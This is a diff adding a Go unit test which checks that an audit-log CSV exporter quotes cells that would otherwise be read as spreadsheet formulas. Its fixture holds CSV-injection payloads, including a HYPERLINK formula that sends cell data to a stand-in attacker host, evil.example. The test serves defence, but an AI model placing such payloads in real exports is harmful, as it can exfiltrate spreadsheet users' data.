@@ -0,0 +1,46 @@
+package main
+
+import (
+	"bytes"
+	"encoding/csv"
+	"testing"
+	"time"
+)
+
+func TestCSVExportQuotesFormulas(t *testing.T) {
+	var buf bytes.Buffer
+	e, err := newAuditExporter("csv", &buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	entry := &AuditLog{
+		ID:        "audit-1",
+		Action:    "user.login",
+		Status:    "success",
+		IPAddress: "-1+1",
+		UserAgent: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+		Details:   map[string]interface{}{"note": "@SUM(A1:A2)"},
+		CreatedAt: time.Now(),
+	}
+	if err := e.write(entry); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.flush(); err != nil {
+		t.Fatal(err)
+	}
+
+	records, err := csv.NewReader(&buf).ReadAll()
+	if err != nil || len(records) != 2 {
+		t.Fatalf("got %v, %v", records, err)
+	}
+	row := records[1]
+	if got, want := row[8], "'"+entry.UserAgent; got != want {
+		t.Errorf("user_agent: got %q, want %q", got, want)
+	}
+	if got, want := row[7], "'-1+1"; got != want {
+		t.Errorf("ip_address: got %q, want %q", got, want)
+	}
+	if got := row[3]; got != "user.login" {
+		t.Errorf("action: got %q", got)
+	}
+}